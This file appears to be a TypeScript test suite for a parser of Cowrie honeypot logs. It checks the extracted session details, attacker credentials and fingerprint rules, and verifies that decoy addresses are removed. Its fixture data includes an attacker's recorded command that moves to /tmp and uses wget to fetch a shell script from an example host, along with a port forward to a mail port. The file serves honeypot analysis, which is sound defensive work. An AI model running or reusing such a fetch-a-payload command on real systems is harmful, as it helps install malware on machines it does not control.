import assert from 'node:assert/strict'
import { test } from 'node:test'
import { formatAddress } from '@hirundo/base'
import { readLog, sampleLines } from '../testing/logs.ts'

test('the events of a session are one interaction with all that it said', () => {
  const { outcomes, interactions } = readLog('cowrie', sampleLines('cowrie.json'))
  assert.deepEqual(outcomes.filter((outcome) => outcome !== 'event'), ['bad'])
  assert.equal(interactions.length, 2)
  const [ssh, telnet] = interactions
  assert.equal(formatAddress(ssh!.src), '198.51.100.23')
  assert.deepEqual([ssh!.at_ms, ssh!.src_port, ssh!.dst_port, ssh!.protocol, ssh!.handshake, ssh!.duration_ms],
    [Date.UTC(2026, 10, 1, 10, 0, 0, 100), 41022, 2222, 'ssh', 'dialogue', 7500])
  assert.deepEqual(ssh!.logins, [{ user: 'root', password: 'example' }, { user: 'root', password: '12345' }])
  assert.deepEqual(ssh!.urls, ['http://203.0.113.9/x.sh'])
  assert.deepEqual(ssh!.facts, {
    'ssh.client_version': 'SSH-2.0-Go', 'ssh.hassh': '16443846184eafde36765c9bab2f4397', 'cowrie.login': 'failed | success', 'cowrie.arch': 'linux-x64-lsb',
    'ssh.commands': 'cd /tmp; wget http://203.0.113.9/x.sh; ping xxxxxxxxxx', 'file.sha256': 'a'.repeat(64), 'ssh.forward': '203.0.113.80:25',
  })
  assert.deepEqual(ssh!.guess, { name: 'go-ssh', rule: String.raw`ssh.client_version ~ ^SSH-2\.0-Go\b` })
  assert.deepEqual([telnet!.protocol, telnet!.handshake, telnet!.logins.length], ['telnet', 'dialogue', 1])
})

test('no address or name of the decoy stands in what is kept', () => {
  const { interactions } = readLog('cowrie', sampleLines('cowrie.json'))
  assert.doesNotMatch(JSON.stringify(interactions), /192\.0\.2\.|decoy-one/)
})

test('a session that never says more than connect proves the handshake only; one without its beginning is kept', () => {
  const [connect, , , login] = sampleLines('cowrie.json')
  assert.deepEqual(readLog('cowrie', [connect!]).interactions.map(({ handshake }) => handshake), ['completed'])
  assert.deepEqual(readLog('cowrie', [login!]).interactions.map(({ handshake, src_port }) => [handshake, src_port]), [['dialogue', 0]])
})
